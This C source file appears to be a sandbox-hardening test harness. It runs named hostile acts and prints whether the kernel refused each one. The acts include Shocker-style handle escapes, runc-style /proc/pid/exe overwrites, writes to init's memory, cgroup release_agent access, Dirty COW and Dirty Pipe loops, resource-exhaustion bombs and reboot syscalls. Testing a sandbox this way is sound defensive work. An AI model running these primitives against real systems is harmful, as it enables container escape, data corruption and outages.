// attack runs one hostile act, named by its first argument, and prints what the kernel
// answered to each part of it: "PART ok" or "PART ERRNO".
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/timerfd.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static void say(const char *what, long r) {
	printf("%s %s\n", what, r < 0 ? strerrorname_np(errno) : "ok");
	fflush(stdout);
}

#define TRY(what, call) (errno = 0, say(what, (long)(call)))

static char **args;

// X-P03: memory that is no mapping of anybody, until the kernel says stop.
static void memfd_bomb(void) {
	static char page[1 << 16];
	memset(page, 1, sizeof page);
	int fd = memfd_create("bomb", 0);
	while (write(fd, page, sizeof page) == sizeof page)
		;
	say("memfd", -1);
}

static void exe(void) {
	TRY("self", open("/proc/self/exe", O_WRONLY));
	TRY("init", open("/proc/1/exe", O_WRONLY));
	TRY("init-task", open("/proc/1/task/1/exe", O_WRONLY));
	int r = truncate("/proc/self/exe", 0);
	if (r < 0 && errno == EROFS) // which of two refusals comes first differs between kernels
		errno = EACCES;
	say("truncate", r);
}

// X-K20, on a kernel that may be lost.
static void reboot_now(void) {
	TRY("restart", syscall(SYS_reboot, 0xfee1dead, 0x28121969, 0x01234567, 0));
	TRY("halt", syscall(SYS_reboot, 0xfee1dead, 0x28121969, 0xcdef0123, 0));
	TRY("power", syscall(SYS_reboot, 0xfee1dead, 0x28121969, 0x4321fedc, 0));
	TRY("cad", syscall(SYS_reboot, 0xfee1dead, 0x28121969, 0x89abcdef, 0));
}

// X-P14: whatever runs a program here is for a moment that program's parent or is itself
// run by "#!/proc/self/exe": take hold of it and write.
static void hunt_exe(void) {
	int self = getpid(), got = 0;
	for (time_t end = time(0) + atoi(args[0]); time(0) < end;) {
		for (int pid = 1; pid < 400; pid++) {
			char path[64], link[256];
			struct stat st;
			if (pid == self)
				continue;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			int fd = open(path, O_RDONLY);
			if (fd < 0)
				continue;
			ssize_t n = readlink(path, link, sizeof link - 1);
			link[n < 0 ? 0 : n] = 0;
			if (strncmp(link, "/bin/", 5) && strncmp(link, "/tmp/", 5) && fstat(fd, &st) == 0) {
				snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
				int w = open(path, O_WRONLY);
				got += w >= 0 && write(w, "x", 1) == 1;
				if (w >= 0)
					close(w);
			}
			close(fd);
		}
	}
	printf("written %d\n", got);
}

static void init_memory(void) {
	char b[8];
	struct iovec l = {b, 8}, r = {(void *)0x400000, 8};
	TRY("vm_readv", process_vm_readv(1, &l, 1, &r, 1, 0));
	TRY("vm_writev", process_vm_writev(1, &l, 1, &r, 1, 0));
	TRY("seize", ptrace(PTRACE_SEIZE, 1, 0, 0));
	TRY("mem", open("/proc/1/mem", O_RDWR));
	TRY("task-mem", open("/proc/1/task/1/mem", O_RDWR));
	TRY("syscall", open("/proc/1/syscall", O_RDONLY) < 0 ? -1 : read(open("/proc/1/syscall", O_RDONLY), b, 1));
	TRY("kcmp", syscall(SYS_kcmp, 1, getpid(), 0, 0, 0));
	long pid = syscall(434, 1, 0);
	int fds = 0;
	for (int i = 0; i < 64; i++)
		fds += syscall(438, (int)pid, i, 0) >= 0;
	printf("fds %d\n", fds);
	TRY("prlimit", prlimit(1, RLIMIT_NOFILE, &(struct rlimit){0, 0}, 0));
	TRY("setscheduler", sched_setscheduler(1, SCHED_IDLE, &(struct sched_param){0}));
}

static int null(void) { return open("/dev/null", O_RDONLY); }
static int notify(void) { return inotify_init1(0); }
static int epoll(void) { return epoll_create1(0); }
static int timer(void) { return timerfd_create(CLOCK_MONOTONIC, 0); }
static int pipes(void) {
	int fds[2];
	return pipe(fds);
}
static int posix_timer(void) {
	timer_t id;
	return timer_create(CLOCK_MONOTONIC, &(struct sigevent){.sigev_notify = SIGEV_NONE}, &id);
}

// X-P16: takes all of one thing after another, each in a child of its own.
static void exhaust(void) {
	struct {
		const char *name;
		int (*get)(void);
	} all[] = {{"files", null}, {"inotify", notify}, {"epoll", epoll}, {"timerfd", timer}, {"pipes", pipes}, {"timers", posix_timer}};
	for (unsigned i = 0; i < sizeof all / sizeof *all; i++)
		if (fork() == 0) {
			int n = 0;
			while (n < 100000 && all[i].get() >= 0)
				n++;
			say(all[i].name, n == 100000 ? 0 : -1);
			_exit(0);
		} else
			wait(0);
}

// X-P16: takes all of what the kernel counts by user, and keeps it.
static void hold(void) {
	int (*get[])(void) = {notify, posix_timer}, fds[2];
	char done;
	if (pipe(fds) < 0)
		return;
	for (int i = 0; i < 2; i++) {
		if (fork() == 0) {
			while (get[i]() >= 0)
				;
			if (write(fds[1], "", 1) == 1)
				pause();
			_exit(1);
		}
		if (read(fds[0], &done, 1) != 1)
			return;
	}
	say("held", 0);
	pause();
}

static void take(void) {
	TRY("inotify", notify());
	TRY("timers", posix_timer());
}

static void ipc(void) {
	TRY("shm", shmget(0x5041, 4096, IPC_CREAT | 0600));
	TRY("sem", semget(0x5041, 1, IPC_CREAT | 0600));
	TRY("msg", msgget(0x5041, IPC_CREAT | 0600));
	TRY("mq", mq_open("/paddock", O_CREAT | O_RDWR, 0600, 0));
	TRY("keyring", syscall(SYS_add_key, "user", "paddock", "x", 1, -5));
}

static void privileges(void) {
	void *page = mmap(0, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	struct {
		uint32_t size, policy;
		uint64_t flags;
		int32_t nice;
		uint32_t priority;
		uint64_t runtime, deadline, period;
	} dl = {sizeof dl, 6, 0, 0, 0, 10000000, 20000000, 20000000};
	TRY("nice", setpriority(PRIO_PROCESS, 0, -20));
	TRY("fifo", sched_setscheduler(0, SCHED_FIFO, &(struct sched_param){1}));
	TRY("deadline", syscall(SYS_sched_setattr, 0, &dl, 0));
	TRY("ioprio", syscall(SYS_ioprio_set, 1, 0, 1 << 13));
	TRY("mlock", mlock(page, 1 << 20));
	TRY("mlockall", mlockall(MCL_CURRENT | MCL_FUTURE));
	TRY("nofile", setrlimit(RLIMIT_NOFILE, &(struct rlimit){1 << 20, 1 << 20}));
	TRY("core", setrlimit(RLIMIT_CORE, &(struct rlimit){1, RLIM_INFINITY}));
	int fd = open("/proc/self/oom_score_adj", O_WRONLY);
	TRY("oom", write(fd, "-1000", 5));
}

static void sync_storm(void) {
	char b[4096] = {1};
	int fd = open("/tmp/storm", O_CREAT | O_RDWR, 0600);
	for (int i = 0; i < 300; i++)
		if (pwrite(fd, b, sizeof b, (i % 64) * sizeof b) < 0 || fsync(fd) || fdatasync(fd) || syncfs(fd)) {
			say("storm", -1);
			return;
		}
	say("storm", 0);
}

// X-K03.
static void join(void) {
	static const char *names[] = {"net", "mnt", "user", "pid", "ipc", "uts", "cgroup"};
	long init = syscall(434, 1, 0);
	for (unsigned i = 0; i < 7; i++) {
		char path[64];
		snprintf(path, sizeof path, "/proc/1/ns/%s", names[i]);
		TRY(names[i], open(path, O_RDONLY));
	}
	TRY("setns", setns((int)init, CLONE_NEWNET | CLONE_NEWNS));
	TRY("bind", mount("/proc/self/ns/net", "/tmp", 0, MS_BIND, 0));
}

static int tried, open_for_writing;

static int walk(const char *path, const struct stat *st, int flag, struct FTW *at) {
	(void)at;
	if (flag == FTW_D || flag == FTW_DNR || flag == FTW_SL)
		return 0;
	if (!strncmp(path, "/proc/", 6) && (path[6] >= '0' && path[6] <= '9'))
		return 0;
	if (!strncmp(path, "/proc/self", 10) || !strncmp(path, "/proc/thread-self", 17))
		return 0;
	tried++;
	int fd = S_ISREG(st->st_mode) ? open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC) : -1;
	if (fd >= 0) {
		printf("%s can be written\n", path);
		open_for_writing++;
		close(fd);
	}
	return 0;
}

// X-K11: every file of the kernel that can be opened for writing, but for a process's own.
static void kernel_files(void) {
	nftw("/proc", walk, 32, FTW_PHYS);
	nftw("/sys", walk, 32, FTW_PHYS);
	printf("%s, %d writable\n", tried > 20 ? "walked" : "nothing to walk", open_for_writing);
}

// X-K13.
static void cgroup(void) {
	TRY("v1", mount("cgroup", "/tmp", "cgroup", 0, "memory"));
	TRY("v2", mount("none", "/tmp", "cgroup2", 0, 0));
	TRY("release_agent", open("/sys/fs/cgroup/release_agent", O_WRONLY));
	TRY("memory.max", open("/sys/fs/cgroup/memory.max", O_WRONLY));
	TRY("procs", open("/sys/fs/cgroup/cgroup.procs", O_WRONLY));
}

// X-K15: the shocker, for the root inodes of the usual file systems.
static void shocker(void) {
	struct {
		unsigned bytes;
		int type;
		uint32_t ino[2];
	} h = {8, 1, {2, 0}};
	for (int i = 0; i < 3; i++) {
		h.ino[0] = i ? 126 + i : 2;
		TRY("handle", syscall(SYS_open_by_handle_at, open("/", O_RDONLY), &h, O_RDONLY));
	}
}

static void xattrs(void) {
	static char big[65536];
	memset(big, 'x', sizeof big);
	int fd = open("/tmp/x", O_CREAT | O_RDWR, 0600);
	TRY("opaque", setxattr("/tmp", "trusted.overlay.opaque", "y", 1, 0));
	TRY("redirect", fsetxattr(fd, "trusted.overlay.redirect", "/etc", 4, 0));
	TRY("capability", fsetxattr(fd, "security.capability", (uint32_t[5]){0x02000001, 1, 0, 0, 0}, 20, 0));
	fsetxattr(fd, "user.overlay.opaque", "y", 1, 0); // may work, and must mean nothing
	fsetxattr(fd, "user.big", big, sizeof big, 0);
}

static void names(void) {
	static char longest[256];
	memset(longest, 'n', 255);
	const char *all[] = {"a\nb", "\xff\xfe", longest, "-rf", "%2e%2e", " ", "\x1b[31m"};
	mkdir("/tmp/names", 0700);
	TRY("chdir", chdir("/tmp/names"));
	for (unsigned i = 0; i < sizeof all / sizeof *all; i++)
		TRY("name", open(all[i], O_CREAT | O_WRONLY, 0600));
}

static void links(void) {
	int n = 0, fd = open("/tmp/one", O_CREAT | O_WRONLY, 0600);
	char path[64];
	if (write(fd, "shared", 6) != 6)
		return;
	mkdir("/tmp/links", 0700);
	do
		snprintf(path, sizeof path, "/tmp/links/%d", ++n);
	while (n <= 1000 && link("/tmp/one", path) == 0);
	say("links", n > 1000 ? 0 : -1);
}

static void flags(void) {
	int fd = open("/tmp/flags", O_CREAT | O_RDWR, 0600), immutable = 0x10;
	char attr[28] = {0x08};
	TRY("immutable", ioctl(fd, 0x40086602, &immutable));
	TRY("xattr", ioctl(fd, 0x401c5820, attr));
	mkdir("/tmp/none", 0700);
	mkdir("/tmp/none/below", 0700);
	TRY("chmod", chmod("/tmp/none/below", 0) | chmod("/tmp/none", 0));
}

static void sockets(void) {
	struct sockaddr_un a = {AF_UNIX, "/tmp/socket"};
	TRY("bind", bind(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&a, sizeof a));
	TRY("fifo", mkfifo("/tmp/fifo", 0666));
	TRY("device", mknod("/tmp/device", S_IFBLK | 0600, 0x800));
	TRY("whiteout", mknod("/tmp/whiteout", S_IFCHR, 0));
}

// X-F03: a file, a link to the host's flag, a directory and a FIFO take turns at one name.
static void swap(void) {
	int n = atoi(args[0]);
	const char *form[] = {"/tmp/s/file", "/tmp/s/link", "/tmp/s/dir", "/tmp/s/out", "/tmp/s/fifo"};
	mkdir("/tmp/s", 0755);
	mkdir("/tmp/s/dir", 0755);
	close(open("/tmp/s/dir/flag", O_CREAT | O_WRONLY, 0644));
	close(open("/tmp/s/file", O_CREAT | O_WRONLY, 0644));
	mkfifo("/tmp/s/fifo", 0666);
	TRY("link", symlink(args[1], "/tmp/s/link"));
	TRY("out", symlink(args[2], "/tmp/s/out"));
	for (int i = 0; i < n; i++)
		if (rename(form[i % 5], "/tmp/at") || rename("/tmp/at", form[i % 5])) {
			say("swap", -1);
			return;
		}
	printf("swapped %d\n", n);
}

// X-F24: changes a file of the world by every way that does not copy it first, then by those
// that do.
static void layers(void) {
	const char *name = "/bin/busybox";
	int fd = open(name, O_RDONLY), mem = open("/proc/self/mem", O_RDWR), p[2];
	char *page = mmap(0, 4096, PROT_READ, MAP_PRIVATE, fd, 0), *shared = mmap(0, 4096, PROT_READ, MAP_SHARED, fd, 0);
	if (fd < 0 || page == MAP_FAILED || shared == MAP_FAILED || pipe(p) < 0)
		return say("begin", -1);
	TRY("map", mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED ? -1 : 0);
	TRY("protect", mprotect(shared, 4096, PROT_READ | PROT_WRITE));
	TRY("write", pwrite(fd, "x", 1, 0));
	TRY("punch", fallocate(fd, 3, 0, 4096));
	TRY("copy", copy_file_range(fd, &(off_t){0}, fd, &(off_t){8192}, 1, 0));
	for (int i = 0; i < 20; i++) { // CVE-2016-5195, CVE-2022-0847
		madvise(page, 4096, MADV_DONTNEED);
		if (pwrite(mem, "x", 1, (off_t)(uintptr_t)page) < 0 || splice(fd, &(off_t){1}, p[1], 0, 1, 0) != 1 || write(p[1], "x", 1) != 1 || read(p[0], (char[2]){0}, 2) < 1)
			break;
	}
	if (shared[0] == 'x' || shared[1] == 'x' || shared[2] == 'x')
		say("changed", 0);
	chmod(name, 0);
	chown(name, 1, 1);
	setxattr(name, "user.x", "x", 1, 0);
	utimensat(AT_FDCWD, name, 0, 0);
	if (link(name, "/tmp/busybox") == 0)
		truncate("/tmp/busybox", 0);
	truncate(name, 1);
	rename(name, "/bin/other");
	unlink("/bin/attack");
}

static int connect_to(const char *host, const char *port, int type, int protocol) {
	struct sockaddr_in a4 = {.sin_family = AF_INET, .sin_port = htons(atoi(port))};
	struct sockaddr_in6 a6 = {.sin6_family = AF_INET6, .sin6_port = htons(atoi(port))};
	int six = inet_pton(AF_INET6, host, &a6.sin6_addr) == 1, on = 1;
	if (!six)
		inet_pton(AF_INET, host, &a4.sin_addr);
	int fd = socket(six ? AF_INET6 : AF_INET, type, protocol);
	if (fd < 0)
		return -1;
	if (protocol) // an echo, whose checksum the kernel makes or nobody looks at
		return sendto(fd, "\10\0\367\377\0\0\0\0", 8, 0, (void *)&a4, sizeof a4);
	setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof on);
	struct sockaddr *a = six ? (void *)&a6 : (void *)&a4;
	if (type == SOCK_DGRAM)
		return sendto(fd, "x", 1, 0, a, six ? sizeof a6 : sizeof a4);
	return connect(fd, a, six ? sizeof a6 : sizeof a4);
}

// Arguments: tcp|udp|icmp|ping HOST PORT, ...
static void network(void) {
	for (char **a = args; a[0] && a[1] && a[2]; a += 3) {
		char what[128];
		snprintf(what, sizeof what, "%s %s", a[0], a[1]);
		int type = *a[0] == 't' ? SOCK_STREAM : *a[0] == 'i' ? SOCK_RAW : SOCK_DGRAM;
		TRY(what, connect_to(a[1], a[2], type, *a[0] == 'i' || *a[0] == 'p' ? IPPROTO_ICMP : 0));
	}
}

static void abstract(void) {
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	strncpy(a.sun_path + 1, args[0], sizeof a.sun_path - 2);
	TRY("abstract", connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&a, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(args[0])));
}

static void ids(void) { printf("%d %d %d %d\n", getuid(), geteuid(), getgid(), getegid()); }

// X-K09: the address families that socket(2) gives, of all that there are.
static void families(void) {
	static const int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET};
	for (int family = 0; family < 64; family++)
		for (unsigned i = 0; i < 4; i++)
			if (socket(family, types[i], 0) >= 0) {
				printf("%d ", family);
				break;
			}
	printf("\n");
}

static const struct {
	const char *name;
	void (*run)(void);
} all[] = {
#define A(n) {#n, n}
	A(memfd_bomb), A(exe), A(hunt_exe), A(init_memory), A(exhaust), A(hold), A(take), A(ipc), A(privileges), A(sync_storm), A(join),
	A(kernel_files), A(cgroup), A(shocker), A(xattrs), A(names), A(links), A(flags), A(sockets), A(swap), A(layers), A(network), A(abstract), A(ids), A(families), A(reboot_now),
};

int main(int argc, char **argv) {
	args = argv + 2;
	for (unsigned i = 0; argc > 1 && i < sizeof all / sizeof *all; i++)
		if (!strcmp(all[i].name, argv[1])) {
			all[i].run();
			return 0;
		}
	return 64;
}
